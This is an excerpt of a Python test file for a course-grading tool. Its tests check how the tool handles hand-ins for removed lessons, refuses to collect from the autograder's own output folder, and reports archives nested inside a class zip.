    assert "alice    01_tokenization  -      not graded" in capsys.readouterr().out


def test_a_hand_in_of_a_lesson_the_course_no_longer_has_is_a_row_saying_so(course, tmp_path):
    """ch61: a lesson's folder in solutions/ renamed or removed, its students' hand-ins and scores left status and
    the CSV without a word; each is a row that says why, and the hand-in stays."""
    grading.collect(_zip(tmp_path / "class.zip", {f"alice/{A}.ipynb": b"{}", f"bob/{B}.ipynb": b"{}"}), paths=course)
    (course.source / B).rename(course.source / "03_attention_old")
    rows = {(r["student"], r["lesson"]): r for r in grading.grades(course)}
    assert rows[("bob", B)]["status"] == "not graded", rows
    assert rows[("bob", B)]["detail"] == (f"the course has no lesson '{B}' now (solutions/{B}/{B}.ipynb renamed or "
                                          f"removed?): the hand-in is kept in submitted/bob/{B}/; put the lesson back "
                                          f"to grade it")
    assert ("alice", B) not in rows and rows[("alice", A)]["status"] == "not graded"
    assert [r["lesson"] for r in grading.grades(course, student="bob")] == [A, B]


def test_the_graders_copies_are_refused_as_a_source(course, tmp_path):
    """ch61: `collect autograder/autograded` (the grader's copies, laid out as hand-ins are) replaced each student's
    own hand-in with the graded copy (the lesson with the answers put in, no cell the student added) and forgot
    its grading; it is refused, nothing touched, saying what to collect instead."""
    grading.collect(_zip(tmp_path / "class.zip", {f"alice/{A}.ipynb": b"{}"}), paths=course)
    copy = course.autograded / "alice" / A / f"{A}.ipynb"
    copy.parent.mkdir(parents=True)
    copy.write_bytes(b'{"graded": 1}')
    course.gradebook.write_bytes(b"")
    for source in (course.autograded, course.autograded / "alice"):
        with pytest.raises(SystemExit, match=rf"^{re.escape(str(source))}: lies in {re.escape(str(course.autograded))}, "
                                             rf"the autograder's graded copies .*nothing collected"):
            grading.collect(source, paths=course)
    assert _submitted(course) == {f"alice/{A}/{A}.ipynb": b"{}"}


def test_an_archive_inside_the_source_says_to_unpack_it(course, tmp_path):
    """ch61: a class zip holding a zip per student listed each as 'not a notebook (.ipynb)', which named no fix."""
    said = []
    grading.collect(_zip(tmp_path / "class.zip", {"alice.zip": b"PK", "bob/work.tar.gz": b"x", "carol/notes.txt": b"x"}),
                    paths=course, on_skip=said.append)
    unpack = "an archive inside the source, not unpacked: unpack it where it lies"
    assert sorted(said) == sorted([f"alice.zip: {unpack} (a student's zip into a folder named after the student) "
                                   f"and collect again", f"bob/work.tar.gz: {unpack} (a student's zip into a folder "
                                   f"named after the student) and collect again", "carol/notes.txt: not a notebook (.ipynb)"])
